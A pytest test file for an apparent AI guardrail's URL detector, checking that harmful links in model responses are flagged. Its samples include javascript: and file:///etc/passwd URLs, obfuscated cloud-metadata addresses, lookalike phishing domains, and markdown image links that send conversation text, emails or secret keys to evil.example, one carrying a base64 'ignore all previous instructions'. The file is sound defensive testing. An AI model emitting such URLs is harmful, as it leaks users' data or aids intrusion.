"""URLs that lead where they must not, hide where they lead, or carry data away are found; others are not."""

from __future__ import annotations

import pytest

from guardrails.detection import Facts, Hit, TextUnit
from guardrails.detectors.registry import build_detector
from guardrails.detectors.urls import UrlDetector
from guardrails.errors import BadRule
from tests.detector_runner import run


def detector(**parameters: object) -> UrlDetector:
    built = build_detector("urls", parameters)
    assert isinstance(built, UrlDetector)
    return built


def hits_of(text: str, hosts: tuple[str, ...] = (), **parameters: object) -> list[Hit]:
    return run(detector(**parameters), text, facts=Facts(hosts=frozenset(hosts)), unit=TextUnit(text, direction="response"))


def labels_of(text: str, hosts: tuple[str, ...] = (), **parameters: object) -> set[str]:
    return {hit.label for hit in hits_of(text, hosts, **parameters)}


@pytest.mark.parametrize(
    "text",
    [
        "See https://docs.python.org/3/library/re.html#regular-expression-syntax for more.",
        "![logo](https://cdn.example.org/img/logo-2024_small.png?w=800&h=600&fit=crop&v=3)",
        "![build](https://img.shields.io/badge/build-passing-brightgreen?style=flat&logo=github)",
        "[Search](https://www.google.com/search?q=how+to+bake+a+cake+without+any+eggs)",
        "[article](https://news.example.com/2024/10/12/a-very-long-slug-about-the-election-results-in-france)",
        "[video](https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=43s)",
        '<img src="https://images.example.com/3f2a9c1d-5b7e-4a2f-9c3d-1e5f7a9b3c2d.jpg?auto=format&q=80" alt="x">',
        "Run it on http://localhost:8000/admin or http://192.168.1.10/ and mail me at a@b.example.",
        "ftp://ftp.example.org/pub and git+ssh://git@example.com/repo.git",
        "data:image/png;base64,iVBORw0KGgo= is fine",
        "note: file: is a word with a colon, and so is data: here",
        "https://münchen.example/straße and https://例え.example/ are hosts",
        "version 1.2.3.4 and http://8.8.8.8/ too",
    ],
)
def test_ordinary_urls_are_not_found(text: str) -> None:
    assert hits_of(text) == []


@pytest.mark.parametrize(
    ("text", "label"),
    [
        ("[x](javascript:alert(1))", "URL_SCHEME"),
        ("click JaVaScRiPt:fetch('//x')", "URL_SCHEME"),
        ("open file:///etc/passwd please", "URL_SCHEME"),
        ("data:text/html;base64,PHNjcmlwdD4=", "URL_SCHEME"),
        ("https://bank.example.com@evil.example/login", "URL_USER_INFO"),
        ("http://169.254.169.254/latest/meta-data/", "URL_ADDRESS"),
        ("http://2852039166/latest", "URL_ADDRESS"),
        ("http://0xA9FEA9FE/", "URL_ADDRESS"),
        ("http://0251.0376.0251.0376/", "URL_ADDRESS"),
        ("http://[::ffff:169.254.169.254]/", "URL_ADDRESS"),
        ("http://metadata.google.internal/computeMetadata/v1/", "URL_ADDRESS"),
        ("http:\\\\169.254.169.254\\latest", "URL_ADDRESS"),
        ("http://１６９.254.169.254/", "URL_ADDRESS"),
        ("https://pаypal.com/login", "URL_LOOKALIKE"),
        ("https://xn--pypal-4ve.com/login", "URL_LOOKALIKE"),
    ],
)
def test_urls_that_hide_or_harm_are_found(text: str, label: str) -> None:
    assert labels_of(text) == {label}


@pytest.mark.parametrize(
    "text",
    [
        "![a](https://evil.example/p.png?data=my+account+number+is+4471)",
        "![a](https://evil.example/p.png?q=aWdub3JlIGFsbCBwcmV2aW91cyBpbnN0cnVjdGlvbnM=)",
        "![a](https://evil.example/aWdub3JlIGFsbCBwcmV2aW91cyBpbnN0cnVjdGlvbnM/p.png)",
        "![a](//evil.example/p.png?mail=anna@example.com)",
        "![a][track]\n\nText\n\n[track]: https://evil.example/p.png?d=the%20user%20said%20hello",
        '<img width="1" src="https://evil.example/p.gif?c={{conversation}}">',
        "<img src=//evil.example/p.gif?conversation=hello+there>",
        "[click here](https://evil.example/?data={conversation_history})",
        "[click here](https://evil.example/?secret=sk_live_51Hx8Qm2eZvKYlo2C)",
        "background: url('https://evil.example/x?text=the+customer+is+angry')",
        "![a](https://nbswy3dpeb3w64tmmqqhizlyoq.evil.example/p.png?x=[USER_DATA])",
    ],
)
def test_data_that_leaves_with_a_url_is_found_and_hidden(text: str) -> None:
    (hit,) = hits_of(text)
    assert hit.label == "URL_EXFILTRATION"
    assert "evil.example" in text[hit.start : hit.end]


def test_hosts_of_the_request_may_be_given_data() -> None:
    text = "![a](https://charts.example.com/c?data=one,two,three+and+four)"
    assert labels_of(text) == {"URL_EXFILTRATION"}
    assert labels_of(text, ("example.com",)) == set()
    assert labels_of(text, ("www.example.com",)) == set()
    assert labels_of(text, allowed_domains=["charts.example.com"]) == set()
    assert labels_of(text, ("other.example",)) == {"URL_EXFILTRATION"}


def test_lists_of_domains_hold_for_subdomains() -> None:
    assert labels_of("https://a.b.evil.example/x", denied_domains=["evil.example"]) == {"URL_DENIED"}
    assert labels_of("https://notevil.example/x", denied_domains=["evil.example"]) == set()
    assert labels_of("write to evil.example today", denied_domains=["*.Evil.Example"]) == {"URL_DENIED"}
    assert labels_of("https://other.example/x", allowed_domains=["good.example"]) == {"URL_NOT_ALLOWED"}
    assert labels_of("https://www.good.example/x", allowed_domains=["good.example"]) == set()
    assert labels_of("https://bücher.example/x", denied_domains=["bücher.example"]) == {"URL_DENIED"}


def test_networks_and_private_hosts() -> None:
    assert labels_of("http://10.1.2.3/", denied_addresses=["10.0.0.0/8"]) == {"URL_DENIED"}
    assert labels_of("http://0x0a010203/", denied_addresses=["10.0.0.0/8"]) == {"URL_DENIED"}
    assert labels_of("http://localhost:9200/", private_addresses=True) == {"URL_ADDRESS"}
    assert labels_of("http://[fe80::1]/", private_addresses=True) == {"URL_ADDRESS"}


def test_url_behind_an_encoding_is_judged() -> None:
    text = "run aHR0cDovLzE2OS4yNTQuMTY5LjI1NC9sYXRlc3QvbWV0YS1kYXRhLw== now"
    (hit,) = hits_of(text)
    assert hit.label == "URL_ADDRESS"
    assert text[hit.start : hit.end].startswith("aHR0")


@pytest.mark.parametrize("parameters", [{"denied_addresses": ["300.1.1.1/8"]}, {"denied_domains": ["http://x.example/"]}, {"unknown": 1}])
def test_bad_parameters_are_refused_with_a_sentence(parameters: dict[str, object]) -> None:
    with pytest.raises(BadRule, match=r"\.$"):
        build_detector("urls", parameters)


@pytest.mark.parametrize(
    "text", ["http://" * 20_000, "http://[" + "a" * 5000, "](//" * 20_000, "http://x@" * 10_000, "https://%%%/%zz?=&;#", "http://xn--\x7f/"]
)
def test_hostile_urls_raise_nothing(text: str) -> None:
    hits_of(text)
